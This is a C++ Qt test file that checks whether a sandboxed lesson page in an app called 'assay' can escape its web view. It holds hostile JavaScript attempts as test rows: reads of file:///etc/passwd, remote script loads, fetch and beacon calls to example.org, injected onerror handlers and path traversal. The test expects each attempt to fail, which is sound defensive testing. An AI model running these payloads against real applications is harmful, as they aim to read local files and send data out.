// What a hostile lesson could try from inside its page: leave, load, open, ask, call. Each attempt is made from a script,
// which is more than a lesson can do (its HTML is escaped and filtered), and must reach nothing.
#include <QFile>
#include <QMetaMethod>
#include <QRegularExpression>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>

#include "app/support/app_fixture.h"

using namespace assay;
using tests::AppFixture;

namespace {

// What a class adds to its channel: signals and slots by name.
QStringList methods(const QMetaObject& type) {
    QStringList names;
    for (int i = QObject::staticMetaObject.methodCount(); i < type.methodCount(); ++i)
        names.append(QString::fromLatin1(type.method(i).name()));
    names.removeDuplicates();
    names.sort();
    return names;
}

// The names that CHANNEL.md gives a page, common ones included.
QStringList contract(const QString& text, const QString& page) {
    QStringList names;
    const auto collect = [&](const QString& section) {
        static const QRegularExpression row("^\\| ((?:(?:signal|slot) )?`[^|]*)\\|", QRegularExpression::MultilineOption);
        static const QRegularExpression name("`([A-Za-z]+)\\(");
        auto rows = row.globalMatch(section);
        while (rows.hasNext()) {
            auto found = name.globalMatch(rows.next().captured(1));
            while (found.hasNext()) names.append(found.next().captured(1));
        }
    };
    for (const QString& section : text.split("\n## "))
        if (section.startsWith("Common") || section.startsWith('`' + page + '`')) collect(section);
    names.removeDuplicates();
    names.sort();
    return names;
}

}  // namespace

class HostileTest : public QObject {
    Q_OBJECT
  private slots:
    void initTestCase();
    void pageReachesNothing_data();
    void pageReachesNothing();
    void noRequestLeavesTheApp();
    void channelHasExactlyTheContract_data();
    void channelHasExactlyTheContract();
    void slotsRefuseWhatIsNotTheirs();
    void debuggingPortIsClosed();

  private:
    void awaitAnswers();
    AppFixture m_fixture;
};

void HostileTest::initTestCase() {
    m_fixture.start();
    m_fixture.open("lesson", "warm-up/how-this-works");
}

void HostileTest::pageReachesNothing_data() {
    QTest::addColumn<QString>("attempt");  // an expression that becomes true where it succeeded
    const std::pair<const char*, const char*> rows[] = {
        {"navigate to the web", "location.href = 'https://example.org/'; false"},
        {"navigate to a file", "location.href = 'file:///etc/passwd'; false"},
        {"navigate to data", "location.href = 'data:text/html,<h1>x</h1>'; false"},
        {"navigate to javascript", "location.href = 'javascript:document.title=`owned`'; false"},
        {"navigate to another page of ours", "location.href = 'assay://app/editor.html'; false"},
        {"navigate to the course", "location.href = 'assay://course/course.toml'; false"},
        {"navigate to resources", "location.href = 'qrc:/qtwebchannel/qwebchannel.js'; false"},
        {"navigate to the engine", "location.href = 'chrome://gpu'; false"},
        {"view source", "location.href = 'view-source:assay://app/lesson.html'; false"},
        {"open a window", "window.open('https://example.org/') !== null"},
        {"open a page of ours", "window.open('assay://app/home.html') !== null"},
        {"submit a form", "(()=>{const f=document.createElement('form');f.action='https://example.org/';document.body.append(f);f.submit();return false})()"},
        {"add a frame", "(()=>{const f=document.createElement('iframe');f.src='assay://app/editor.html';document.body.append(f);return false})()"},
        {"remote picture", "(()=>{const i=new Image();i.src='https://example.org/x.png';i.onload=()=>window.owned=1;document.body.append(i);return false})()"},
        {"picture from disk", "(()=>{const i=new Image();i.src='file:///usr/share/pixmaps/debian-logo.png';i.onload=()=>window.owned=1;return false})()"},
        {"lesson's source as picture", "(()=>{const i=new Image();i.src='assay://course/course.toml';i.onload=()=>window.owned=1;return false})()"},
        {"remote script", "(()=>{const s=document.createElement('script');s.src='https://example.org/x.js';s.onload=()=>window.owned=1;document.head.append(s);return false})()"},
        {"inline script", "(()=>{const s=document.createElement('script');s.textContent='window.owned=1';document.head.append(s);return false})()"},
        {"handler in an attribute", "(()=>{const d=document.createElement('div');d.innerHTML='<img src=x onerror=\"window.owned=1\">';document.body.append(d);return false})()"},
        {"eval", "(()=>{try{eval('window.owned=1')}catch(e){};return false})()"},
        {"fetch", "(()=>{fetch('https://example.org/').then(()=>window.owned=1,()=>0);return false})()"},
        {"request", "(()=>{try{const x=new XMLHttpRequest();x.open('GET','file:///etc/passwd');x.onload=()=>window.owned=1;x.send()}catch(e){};return false})()"},
        {"beacon", "(()=>{try{navigator.sendBeacon('https://example.org/','x')}catch(e){};return false})()"},
        {"socket", "(()=>{try{const s=new WebSocket('ws://127.0.0.1:1/');s.onopen=()=>window.owned=1}catch(e){};return false})()"},
        {"worker", "(()=>{try{new Worker('data:text/javascript,postMessage(1)').onmessage=()=>window.owned=1}catch(e){};return false})()"},
        {"read the clipboard", "(()=>{navigator.clipboard?.readText().then(()=>window.owned=1,()=>0);return false})()"},
        {"know the place", "(()=>{navigator.geolocation?.getCurrentPosition(()=>window.owned=1,()=>0);return false})()"},
        {"camera", "(()=>{navigator.mediaDevices?.getUserMedia({video:true}).then(()=>window.owned=1,()=>0);return false})()"},
        {"notifications", "(()=>{Notification?.requestPermission?.().then(p=>{if(p==='granted')window.owned=1},()=>0);return false})()"},
        {"full screen", "(()=>{document.body.requestFullscreen?.().then(()=>window.owned=1,()=>0);return false})()"},
        {"local storage", "(()=>{try{localStorage.setItem('a','b');return localStorage.getItem('a')==='b'}catch(e){return false}})()"},
        {"cookies", "(()=>{try{document.cookie='a=b';return document.cookie.includes('a=b')}catch(e){return false}})()"},
        {"download", "(()=>{const a=document.createElement('a');a.href='data:text/plain,x';a.download='x.txt';a.click();return false})()"},
        {"dialog", "confirm('x') === true"},
    };
    for (const auto& [name, attempt] : rows) QTest::newRow(name) << QString(attempt);
}

// What was asked for before has been answered when a request that is allowed, and made now, has been: twice, since the
// first may have been under way through another queue.
void HostileTest::awaitAnswers() {
    web::View& view = m_fixture.app().lessonView();
    for (int round = 0; round < 2; ++round) {
        m_fixture.js(view, "(()=>{window.answered=false;const i=new Image();i.onload=i.onerror=()=>requestAnimationFrame("
                           "()=>window.answered=true);i.src='assay://app/icons/home.svg?'+Math.random()})()");
        QVERIFY(m_fixture.waitFor(view, "window.answered"));
    }
}

void HostileTest::pageReachesNothing() {
    QFETCH(QString, attempt);
    web::View& view = m_fixture.app().lessonView();
    QVERIFY(!m_fixture.js(view, attempt).toBool());
    awaitAnswers();
    if (QTest::currentTestFailed()) return;
    QVERIFY2(view.url().toString().startsWith("assay://app/lesson.html"), qPrintable(view.url().toString()));
    QVERIFY(m_fixture.js(view, "window.owned === undefined && document.title !== 'owned'").toBool());
    QVERIFY(m_fixture.js(view, "!!document.querySelector('h1')").toBool());
    QVERIFY(m_fixture.js(view, "[...document.querySelectorAll('iframe')].every(f => { try { return !f.contentDocument?.querySelector('.cm-editor') } catch (e) { return true } })").toBool());
}

void HostileTest::noRequestLeavesTheApp() {
    QTcpServer listener;  // somebody who would notice
    QVERIFY(listener.listen(QHostAddress::LocalHost));
    bool reached = false;
    connect(&listener, &QTcpServer::newConnection, this, [&] { reached = true; });
    const QString there = "http://127.0.0.1:" + QString::number(listener.serverPort()) + '/';
    for (const char* attempt : {"new Image().src='%1a.png'", "fetch('%1b').catch(()=>0)", "navigator.sendBeacon?.('%1c')",
                                "window.open('%1d')", "location.href='%1e'",
                                "document.head.append(Object.assign(document.createElement('link'),{rel:'preconnect',href:'%1'}))",
                                "document.head.append(Object.assign(document.createElement('link'),{rel:'prefetch',href:'%1f'}))",
                                "document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:'%1g'}))",
                                "new EventSource('%1h')"})
        m_fixture.js(m_fixture.app().lessonView(), "(()=>{try{" + QString(attempt).arg(there) + "}catch(e){}})()");
    awaitAnswers();
    QVERIFY(!reached);
    QTcpSocket(this).connectToHost(QHostAddress::LocalHost, listener.serverPort());
    QVERIFY(m_fixture.waitUntil([&] { return reached; }));  // it would have noticed
}

void HostileTest::channelHasExactlyTheContract_data() {
    QTest::addColumn<QString>("page");
    QTest::addColumn<QStringList>("offered");
    QTest::newRow("lesson") << "lesson" << methods(web::LessonBridge::staticMetaObject);
    QTest::newRow("editor") << "editor" << methods(web::EditorBridge::staticMetaObject);
    QTest::newRow("results") << "results" << methods(web::ResultsBridge::staticMetaObject);
    QTest::newRow("home") << "home" << methods(web::HomeBridge::staticMetaObject);
}

void HostileTest::channelHasExactlyTheContract() {
    QFETCH(QString, page);
    QFETCH(QStringList, offered);
    QFile file(qEnvironmentVariable("ASSAY_CHANNEL"));
    QVERIFY2(file.open(QIODevice::ReadOnly), "ASSAY_CHANNEL names no file");
    QCOMPARE(offered, contract(QString::fromUtf8(file.readAll()), page));
}

void HostileTest::slotsRefuseWhatIsNotTheirs() {
    auto& app = m_fixture.app();
    model::LessonModel& lesson = app.lesson();
    const auto answered = lesson.answerQuiz("q1", {99});
    QVERIFY(answered.isEmpty());
    QVERIFY(lesson.answerQuiz("nope", {0}).isEmpty());
    lesson.tick("nope", true);
    lesson.placeChanged({{"ratio", 7.5}});
    lesson.placeChanged({{"ratio", "x"}});
    const auto state = app.progress().lessonState("warm-up/how-this-works");
    QVERIFY(state.ticks.empty());
    QVERIFY(state.place <= 1);
    lesson.openExercise("../../../etc");
    lesson.openLesson("https://example.org");
    lesson.openLink("file:///etc/passwd");
    QCOMPARE(app.navigator().current().id, QString("warm-up/how-this-works"));
    const int before = m_fixture.judge().graded;
    lesson.runSnippet("s999", 1, "package main");
    QCOMPARE(m_fixture.judge().graded.load(), before);
}

void HostileTest::debuggingPortIsClosed() {
    QVERIFY(m_fixture.app().lessonView().page().devToolsPage() == nullptr);
    QVERIFY(qEnvironmentVariableIsEmpty("QTWEBENGINE_REMOTE_DEBUGGING"));
}

int main(int argc, char** argv) {
    return tests::runWithPages(argc, argv, [&] {
        HostileTest test;
        return QTest::qExec(&test, argc, argv);
    });
}

#include "hostile_test.moc"
